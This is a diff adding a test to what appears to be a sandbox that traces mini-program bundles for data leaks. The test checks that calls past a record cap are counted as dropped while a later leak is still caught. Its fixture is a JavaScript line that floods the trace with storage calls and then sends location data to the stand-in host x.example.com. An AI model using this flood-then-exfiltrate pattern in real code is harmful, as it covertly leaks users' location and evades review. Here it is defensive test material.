@@ -42,3 +42,16 @@ def test_console_lines_past_their_cap_are_dropped_but_still_searched(engine_name
     cap = trace.of_kind("cap")[0]
     assert (cap.cap, cap.unit, cap.limit, cap.dropped, cap.judged) == ("console", "lines", 10, 6, False)
     assert [f.sink for f in trace.of_kind("flow")] == ["console"]
+
+
+def test_calls_past_the_cap_that_the_review_does_not_judge_are_counted_not_kept(engine_name):
+    """A bundle that fills the record with cheap calls: each later call is one dropped event (its event is never
+    built), and the leak after them is on record."""
+    body = "for (var j = 0; j < 200; j++) tt.getStorageInfoSync(); tt.request({ url: 'https://x.example.com/?' + r.latitude });"
+    trace = run_pages(page(body), engine=engine_name, limits=SMALL)
+    assert trace.api_calls("request") and trace.of_kind("flow")
+    assert len(trace.api_calls("getStorageInfoSync")) < 60
+    (cap,) = trace.of_kind("cap")
+    assert cap.dropped == trace.end.dropped_events >= 200 - 60
+    seqs = [e.seq for e in trace.events]
+    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs) and seqs[-1] < len(trace.events) + cap.dropped
